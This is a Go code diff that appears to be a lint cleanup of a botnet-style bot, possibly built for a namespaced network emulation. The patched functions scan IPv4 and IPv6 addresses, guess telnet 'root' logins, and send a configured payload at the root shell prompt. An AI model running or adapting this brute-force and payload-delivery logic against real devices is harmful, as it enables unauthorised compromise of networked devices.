@@ -56,7 +56,7 @@ func (b *Bot) breakIn(ctx context.Context, a netip.Addr) {
 		return
 	}
 	defer c.Close()
-	c.SetDeadline(time.Now().Add(3 * time.Second))
+	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
 	in := bufio.NewReader(c)
 	for _, say := range []struct{ prompt, line string }{
 		{"login: ", b.Plan.Attack.User}, {"Password: ", b.Plan.Attack.Password}, {"# ", device.Payload}, {"# ", ""},
@@ -92,13 +92,13 @@ func (b *Bot) guess(ctx context.Context, at netip.AddrPort, number int) {
 		return
 	}
 	defer c.Close()
-	c.SetDeadline(time.Now().Add(3 * time.Second))
+	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
 	in := bufio.NewReader(c)
 	for i := range 3 {
 		if !readUntil(in, "login: ") {
 			return
 		}
-		io.WriteString(c, "root\n")
+		_, _ = io.WriteString(c, "root\n")
 		if !readUntil(in, "Password: ") {
 			return
 		}
@@ -157,7 +157,7 @@ func (b *Bot) connects(ctx context.Context, rate int, next func() netip.AddrPort
 	var open []attempt
 	defer func() {
 		for _, a := range open {
-			unix.Close(a.fd)
+			_ = unix.Close(a.fd)
 		}
 	}()
 	return b.Device.Space.Do(func() error { // one thread stays in the namespace for as long as the scan runs
@@ -165,7 +165,7 @@ func (b *Bot) connects(ctx context.Context, rate int, next func() netip.AddrPort
 		for sleep(ctx, gap) {
 			now := time.Now()
 			for len(open) > 0 && (now.After(open[0].until) || len(open) > 2000) {
-				unix.Close(open[0].fd)
+				_ = unix.Close(open[0].fd)
 				open = open[1:]
 			}
 			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
@@ -186,7 +186,7 @@ func scan6(b *Bot, ctx context.Context, r *rand.Rand) error {
 	var from []netip.Addr
 	link, err := b.Device.Space.NL.LinkByName(device.Iface)
 	if err != nil {
-		return nil
+		return fmt.Errorf("bot: %w", err)
 	}
 	for range 5 {
 		a := target(r, prefix)
@@ -269,9 +269,9 @@ func (b *Bot) call(ctx context.Context, to netip.AddrPort, say string) {
 		return
 	}
 	defer c.Close()
-	c.SetDeadline(time.Now().Add(time.Second))
+	_ = c.SetDeadline(time.Now().Add(time.Second))
 	if _, err := io.WriteString(c, say); err == nil {
-		c.Read(make([]byte, 256))
+		_, _ = c.Read(make([]byte, 256))
 	}
 }
 
